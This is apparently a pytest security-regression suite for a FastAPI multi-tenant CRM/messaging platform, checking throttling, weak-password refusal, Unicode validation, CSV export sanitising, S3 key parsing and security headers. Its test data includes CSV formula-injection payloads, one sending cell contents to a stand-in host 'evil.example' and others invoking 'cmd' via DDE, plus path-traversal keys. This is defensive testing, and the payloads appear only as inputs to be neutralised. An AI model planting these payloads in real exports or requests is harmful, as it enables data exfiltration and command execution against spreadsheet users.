"""Security fixes found by probing the running platform, each on the real path (the FastAPI app over moto):
the webhook URL only for admins, login and sign-up throttling, guessable passwords refused, invalid Unicode
refused on every route, formula cells neutralised in every CSV export, S3 keys validated by parsing, and the
security headers of API answers and of the SPA."""
from __future__ import annotations

import csv
import io
import time
import uuid

import httpx
import pytest
from fastapi.testclient import TestClient
from test_contacts_import import notified  # noqa: F401 - the fixture: S3 import events reach the queue

PASSWORD = "s3nha-Segura!"  # the integration fixtures' password


def unique_email(prefix: str = "user") -> str:
    return f"{prefix}.{uuid.uuid4().hex[:10]}@acme.com.br"

FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Clique\")", "+1+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"live formula cell {cell!r} in {row}"


# ---------------------------------------------------------------- 3. webhook URL: admins only
def test_instances_show_the_secret_webhook_url_to_admins_only(tenant_a):
    from alrea.store import instances

    dept = tenant_a.department("Vendas")
    agent = tenant_a.login_as(tenant_a.user("agent", dept)["email"])
    manager = tenant_a.login_as(tenant_a.user("manager", dept)["email"])
    inst = instances.create(instances.Instance(
        tenant_id=tenant_a.tenant_id, instance_id=str(uuid.uuid4()), name="Loja", evolution_name="evo-sec",
        webhook_token="hook_" + uuid.uuid4().hex, jwt_key="k" + uuid.uuid4().hex), max_numbers=5,
        limit_message="limite")
    for path in ("/api/instances", f"/api/instances/{inst.instance_id}"):
        admin_view = tenant_a.get(path).json()
        admin_view = admin_view["items"][0] if "items" in admin_view else admin_view
        assert inst.webhook_token in admin_view["webhook_url"]
        for account in (agent, manager):
            r = account.get(path)
            assert r.status_code == 200, r.text
            assert inst.webhook_token not in r.text and "webhook_url" not in r.text


# ---------------------------------------------------------------- 4. throttling
@pytest.fixture
def clock(monkeypatch):
    """The throttle's clock, moved by the test instead of sleeping."""
    from alrea.services import throttle

    now = [time.time()]
    monkeypatch.setattr(throttle, "clock", lambda: now[0])
    return now


def login(client: TestClient, email: str, password: str):
    return client.post("/api/auth/login", json={"email": email, "password": password})


def test_login_locks_the_account_after_repeated_failures_and_the_lock_expires(client, tenant_a, tenant_b, clock):
    from alrea.services import throttle

    free = throttle.LOGIN_ACCOUNT.free_failures
    for _ in range(free - 1):
        assert login(client, tenant_a.email, "senha-errada-1").status_code == 401
    r = login(client, tenant_a.email, "senha-errada-1")  # the threshold: this failure locks
    assert r.status_code == 401
    r = login(client, tenant_a.email, PASSWORD)  # even the right password is refused while locked
    assert r.status_code == 429, r.text
    assert r.json()["error"] == "too_many_requests" and "Muitas tentativas" in r.json()["message"]
    assert 1 <= int(r.headers["Retry-After"]) <= throttle.LOGIN_ACCOUNT.first_lock_s
    # another account, from the same address, is unaffected
    assert login(client, tenant_b.email, PASSWORD).status_code == 200
    # the delay grows: once the lock is over, one more failure locks for twice as long
    clock[0] += throttle.LOGIN_ACCOUNT.first_lock_s + 1
    assert login(client, tenant_a.email, "senha-errada-1").status_code == 401
    r = login(client, tenant_a.email, PASSWORD)
    assert r.status_code == 429
    first_lock_s = throttle.LOGIN_ACCOUNT.first_lock_s
    assert first_lock_s < int(r.headers["Retry-After"]) <= 2 * first_lock_s
    # the lock expires: the right password works, and clears the account's counter
    clock[0] += 2 * throttle.LOGIN_ACCOUNT.first_lock_s + 1
    assert login(client, tenant_a.email, PASSWORD).status_code == 200
    assert login(client, tenant_a.email, "senha-errada-1").status_code == 401  # counting from zero again
    assert login(client, tenant_a.email, PASSWORD).status_code == 200


def test_unknown_accounts_lock_like_known_ones(client, clock):
    from alrea.services import throttle

    email = unique_email("ninguem")
    for _ in range(throttle.LOGIN_ACCOUNT.free_failures):
        assert login(client, email, "senha-errada-1").status_code == 401
    r = login(client, email, "senha-errada-1")
    assert r.status_code == 429 and r.headers["Retry-After"]


def test_login_locks_an_ip_address_spraying_many_accounts_and_not_other_addresses(app, tenant_a, clock):
    from alrea.services import throttle

    attacker = TestClient(app, client=("203.0.113.7", 40000))
    other = TestClient(app, client=("198.51.100.20", 40000))
    for _ in range(throttle.LOGIN_IP.free_failures):
        assert login(attacker, unique_email("alvo"), "senha-errada-1").status_code == 401  # a new account each
    r = login(attacker, tenant_a.email, PASSWORD)
    assert r.status_code == 429 and int(r.headers["Retry-After"]) >= 1
    assert login(other, tenant_a.email, PASSWORD).status_code == 200  # the account itself is not locked
    clock[0] += throttle.LOGIN_IP.first_lock_s + 1
    assert login(attacker, tenant_a.email, PASSWORD).status_code == 200


def test_signup_failures_lock_the_address(app, tenant_a, clock):
    from alrea.services import throttle

    attacker = TestClient(app, client=("203.0.113.8", 40000))
    other = TestClient(app, client=("198.51.100.21", 40000))
    taken = {"company": "Outra", "name": "Eva", "email": tenant_a.email, "password": PASSWORD}
    for _ in range(throttle.SIGNUP_IP.free_failures):
        assert attacker.post("/api/auth/signup", json=taken).status_code == 409
    fresh = {**taken, "email": unique_email("nova")}
    r = attacker.post("/api/auth/signup", json=fresh)
    assert r.status_code == 429 and r.headers["Retry-After"] and "Aguarde" in r.json()["message"]
    assert other.post("/api/auth/signup", json=fresh).status_code == 201


# ---------------------------------------------------------------- 5. guessable passwords
@pytest.mark.parametrize(("password", "reason"), [
    ("12345678", "Senha muito comum"), ("password", "Senha muito comum"), ("aaaaaaaa", "Senha fácil de adivinhar"),
    ("qwertyuiop", "Senha muito comum"), ("abcdefgh", "Senha fácil de adivinhar"),
])
def test_common_and_guessable_passwords_are_refused_at_signup(client, password, reason):
    r = client.post("/api/auth/signup", json={"company": "Padaria Sol", "name": "Rui", "email": unique_email(),
                                              "password": password})
    assert r.status_code == 422, r.text
    assert r.json()["message"].startswith(reason) and r.json()["field"] == "password"


def test_a_password_made_of_the_users_own_words_is_refused(client, tenant_a):
    r = client.post("/api/auth/signup", json={"company": "Panificadora Tupã", "name": "Rui",
                                              "email": unique_email(), "password": "Panificadora2024"})
    assert r.status_code == 422 and "nome, e-mail ou o nome da empresa" in r.json()["message"], r.text
    # creating a user checks too, with the new user's name and e-mail
    r = tenant_a.post("/api/users", {"name": "Rosangela Figueiredo", "email": unique_email("rosangela"),
                                     "password": "rosangela1", "role": "admin"})
    assert r.status_code == 422 and r.json()["message"].startswith("Senha fácil de adivinhar"), r.text
    r = tenant_a.post("/api/users", {"name": "Rui", "email": unique_email(), "password": "12345678",
                                     "role": "admin"})
    assert r.status_code == 422 and r.json()["message"].startswith("Senha muito comum")
    ok = tenant_a.post("/api/users", {"name": "Rui", "email": unique_email(), "password": "Outra-senha-42",
                                      "role": "admin"})
    assert ok.status_code == 201, ok.text


def test_the_demo_seed_password_passes_the_check():
    from alrea.local.seed import DEFAULT_PASSWORD, demo_logins
    from alrea.services import passwords

    for login_ in demo_logins(DEFAULT_PASSWORD):
        passwords.check_guessability(DEFAULT_PASSWORD, passwords.words_of(login_.email, login_.name))


# ---------------------------------------------------------------- 6. invalid Unicode, every route
def raw(account, method: str, path: str, text: str):
    headers = {**account.headers, "Content-Type": "application/json"}
    return account.client.request(method, path, content=text.encode("ascii"), headers=headers)


def test_lone_surrogates_answer_400_on_every_route(tenant_a, client):
    lone = '"\\ud800x"'
    r = tenant_a.post("/api/contacts/fields", {"name": "apelido", "type": "text"})
    assert r.status_code == 201, r.text
    contact = tenant_a.post("/api/contacts", {"phone": "11955551234", "name": "Ana"}).json()
    attempts = [
        ("POST", "/api/contacts", '{"phone": "11955554321", "fields": {"apelido": %s}}' % lone),
        ("PATCH", f"/api/contacts/{contact['id']}", '{"fields": {"apelido": %s}}' % lone),
        ("PATCH", f"/api/contacts/{contact['id']}", '{"name": "\\udfff"}'),
        ("POST", "/api/departments", '{"name": %s}' % lone),
        ("POST", "/api/quick-replies", '{"shortcut": "oi", "text": %s}' % lone),
        ("POST", "/api/contacts", '{"phone": "11955554321", %s: "x"}' % lone),  # in a key, too
    ]
    for method, path, body in attempts:
        r = raw(tenant_a, method, path, body)
        assert r.status_code == 400, (path, r.status_code, r.text)
        assert r.json()["error"] == "invalid_unicode" and "Unicode" in r.json()["message"]
    # unauthenticated routes as well (the check runs before any route)
    r = client.post("/api/auth/login", content=b'{"email": "a@b.co", "password": "\\ud800\\ud800xxxxxx"}',
                    headers={"Content-Type": "application/json"})
    assert r.status_code == 400 and r.json()["error"] == "invalid_unicode"
    # nothing was stored, and a proper surrogate PAIR (an escaped emoji) is still fine
    assert tenant_a.get(f"/api/contacts/{contact['id']}").json()["name"] == "Ana"
    r = raw(tenant_a, "PATCH", f"/api/contacts/{contact['id']}", '{"fields": {"apelido": "\\ud83d\\ude00 Ana"}}')
    assert r.status_code == 200, r.text
    assert r.json()["fields"]["apelido"] == "\U0001F600 Ana"


# ---------------------------------------------------------------- 7. CSV injection, every export
def test_contacts_export_neutralises_formula_cells_and_keeps_phones_as_text(tenant_a):
    tenant_a.post("/api/contacts/fields", {"name": "cidade", "type": "text"})
    stored = []
    for i, formula in enumerate(FORMULAS):
        r = tenant_a.post("/api/contacts", {"phone": f"1194444{i:04d}", "name": formula,
                                            "fields": {"cidade": formula}, "notes": formula})
        assert r.status_code == 201, r.text
        stored.append(r.json())
    r = tenant_a.get("/api/contacts/export.csv")
    assert r.status_code == 200
    rows = rows_of(r.content)
    assert_no_live_formula(rows)
    by_phone = {row[0]: row for row in rows[1:]}
    for i, contact in enumerate(stored):
        row = by_phone[f"'+551194444{i:04d}"]  # E.164 kept whole, shown by spreadsheets as text
        assert row[1] == "'" + contact["name"] and row[-1] == "'" + contact["fields"]["cidade"], row


def test_campaign_recipients_export_neutralises_formula_cells(tenant_a, api_runtime):
    from test_campaigns_api import RecordingPacer, body, number

    from alrea.store import contacts as cstore
    from alrea.store import tags as tag_store

    api_runtime.pacer = RecordingPacer()
    phones = [f"+55119887{i:05d}" for i in range(len(FORMULAS))]
    for phone, formula in zip(phones, FORMULAS, strict=True):
        cstore.create(cstore.new_item(tenant_a.tenant_id, phone, source="test", name=formula, tags=["vip"]))
    tag_store.add_members(tenant_a.tenant_id, [("vip", p) for p in phones])
    cid = tenant_a.post("/api/campaigns", body(number(tenant_a.tenant_id))).json()["id"]
    assert tenant_a.post(f"/api/campaigns/{cid}/start").status_code == 200
    r = tenant_a.get(f"/api/campaigns/{cid}/export.csv")
    assert r.status_code == 200
    rows = rows_of(r.content)
    assert rows[0][:2] == ["phone", "name"] and len(rows) == len(FORMULAS) + 1
    assert_no_live_formula(rows)
    assert {row[1] for row in rows[1:]} == {"'" + f for f in FORMULAS}
    assert {row[0] for row in rows[1:]} == {"'" + p for p in phones}


def test_import_error_report_neutralises_formula_cells(tenant_a, notified, api_runtime):
    from test_contacts_import import report_rows, run_import

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Nome", "Telefone"])
    writer.writerows([f"Pessoa {i}", formula] for i, formula in enumerate(FORMULAS[:4]))
    writer.writerow(["Boa", "(11) 91234-0000"])
    result = run_import(tenant_a, api_runtime.bus, out.getvalue().encode(), {"Nome": "name", "Telefone": "phone"})
    assert result["counts"]["failed"] == 4 and result["counts"]["imported"] == 1, result
    rows = report_rows(result)
    assert_no_live_formula(rows)
    assert {row[1] for row in rows[1:]} == {"'" + f for f in FORMULAS[:4]}


def test_an_exported_contacts_file_imports_back_with_the_same_phones(tenant_a, notified, api_runtime):
    from test_contacts_import import run_import

    tenant_a.post("/api/contacts", {"phone": "11944449999", "name": "=1+1"})
    exported = tenant_a.get("/api/contacts/export.csv").content
    assert "'+5511944449999" in exported.decode("utf-8-sig")
    # the tenant re-imports its own file: every phone is found again (nothing new, nothing failed)
    result = run_import(tenant_a, api_runtime.bus, exported, {"telefone": "phone"})
    assert result["counts"]["failed"] == 0 and result["counts"]["imported"] == 0, result


# ---------------------------------------------------------------- 8. S3 keys by parsing
@pytest.mark.parametrize("key", [
    "t/{own}/../{other}/campaigns/x.png", "t/{own}/campaigns/../../{other}/campaigns/x.png",
    "t/{own}/campaigns/./x.png", "t/{own}//campaigns/x.png", "t/{own}/campaigns/%2e%2e/x.png",
    "t/{own}\\campaigns\\x.png", "t/{other}/campaigns/x.png", "t/{own}/campaigns/", "t/{own}/x.png",
    "t/{own}", "../t/{own}/campaigns/x.png", "/t/{own}/campaigns/x.png", "t/{own}/imports/a.import.csv",
])
def test_campaign_media_keys_are_validated_by_parsing(tenant_a, tenant_b, api_runtime, key):
    from test_campaigns_api import body, number

    iid = number(tenant_a.tenant_id)
    media = {"key": key.format(own=tenant_a.tenant_id, other=tenant_b.tenant_id), "mimetype": "image/png"}
    r = tenant_a.post("/api/campaigns", body(iid, variants=[{"text": "Oi", "media": media}]))
    assert r.status_code == 422, r.text
    assert r.json()["message"].startswith("Mídia inválida")
    ok = {"key": f"t/{tenant_a.tenant_id}/campaigns/banner.png", "mimetype": "image/png"}
    assert tenant_a.post("/api/campaigns", body(iid, variants=[{"text": "Oi", "media": ok}])).status_code == 201


def test_chat_media_keys_are_validated_by_parsing(tenant_a, tenant_b, api_runtime):
    from test_inbox_scoping import inbound_text

    from alrea.store import instances

    instance = instances.create(instances.Instance(
        tenant_id=tenant_a.tenant_id, instance_id=str(uuid.uuid4()), name="Loja", evolution_name="inbox-scope",
        webhook_token="hook_" + uuid.uuid4().hex, jwt_key="k" + uuid.uuid4().hex), max_numbers=5,
        limit_message="limite")
    cid = inbound_text({"tid": tenant_a.tenant_id, "instance": instance}, "5511911112222", "Oi", "Maria")
    upload = tenant_a.post(f"/api/conversations/{cid}/uploads",
                           {"file_name": "foto.png", "mimetype": "image/png", "size": 4})
    assert upload.status_code == 201, upload.text
    good = upload.json()["key"]
    own, other = tenant_a.tenant_id, tenant_b.tenant_id
    for key in (good.replace(f"/outbox/{cid}/", f"/outbox/{cid}/../{cid}/"),
                f"t/{own}/outbox/{cid}/../../../{other}/outbox/{cid}/x.png",
                f"t/{own}/outbox/{cid}/%2e%2e/x.png", good.replace("/", "\\"), f"t/{other}/outbox/{cid}/x.png",
                f"t/{own}/outbox/{uuid.uuid4()}/x.png", f"t/{own}/outbox/{cid}/"):
        api_runtime.storage.put(key, b"\x89PNG", "image/png")  # the object even exists: S3 keys are literal
        r = tenant_a.post(f"/api/conversations/{cid}/messages", {"media": {"key": key, "mimetype": "image/png"}})
        assert r.status_code == 422 and r.json()["field"] == "media.key", (key, r.text)
        assert r.json()["message"].startswith("Arquivo inválido"), (key, r.text)


# ---------------------------------------------------------------- 9. security headers
def test_api_answers_carry_the_security_headers(client, tenant_a):
    for r in (client.get("/api/health"), tenant_a.get("/api/me"), client.get("/api/nao-existe"),
              client.post("/api/auth/login", json={"email": "x@y.co", "password": "senha-errada-1"})):
        assert r.headers["x-content-type-options"] == "nosniff", r.url
        assert "server" not in r.headers
    r = client.post("/api/auth/login", json={"email": tenant_a.email, "password": PASSWORD})
    assert r.status_code == 200 and r.headers["cache-control"] == "no-store"
    r = client.post("/api/auth/refresh", json={"refresh": r.json()["refresh"]})
    assert r.status_code == 200 and r.headers["cache-control"] == "no-store"


def test_the_spa_is_served_with_a_content_security_policy(tmp_path):
    from alrea.local.gateway import Gateway
    from alrea.local.sockets import LocalSender

    (tmp_path / "index.html").write_text("<!doctype html><title>ALREA</title>")
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets" / "app.js").write_text("console.log(1)")
    gateway = Gateway([], lambda fn, event: None, LocalSender(), spa_dir=tmp_path,
                      s3_origins=["http://127.0.0.1:5999/"])
    with TestClient(gateway.app, base_url="http://app.local:8000") as spa:
        for path in ("/", "/inbox/123", "/assets/app.js"):
            r = spa.get(path)
            assert r.status_code == 200
            csp = {d.split()[0]: d.split()[1:] for d in r.headers["content-security-policy"].split("; ")}
            assert csp["default-src"] == ["'self'"] and csp["script-src"] == ["'self'"]
            assert csp["frame-ancestors"] == ["'none'"] and csp["object-src"] == ["'none'"]
            assert {"'self'", "ws://app.local:8000", "wss://app.local:8000", "http://127.0.0.1:5999"} \
                <= set(csp["connect-src"])
            assert {"blob:", "data:", "http://127.0.0.1:5999"} <= set(csp["img-src"]) & set(csp["media-src"])
            assert r.headers["x-frame-options"] == "DENY"
            assert r.headers["referrer-policy"] == "strict-origin-when-cross-origin"
            assert r.headers["x-content-type-options"] == "nosniff"


def test_the_local_gateway_names_no_server(moto_server):
    from alrea.local.moto import free_port
    from alrea.local.runtime import LocalRuntime, RuntimeOptions

    suffix = uuid.uuid4().hex[:8]
    with LocalRuntime(RuntimeOptions(port=free_port(), table_name=f"hdr-{suffix}", bucket_name=f"hdr-{suffix}",
                                     queue_prefix=f"hd{suffix}-", spa_dir=None, simulator=False, seed=False,
                                     functions=[])) as local:
        r = httpx.get(local.base_url + "/nada", timeout=10)
        assert "server" not in r.headers, r.headers
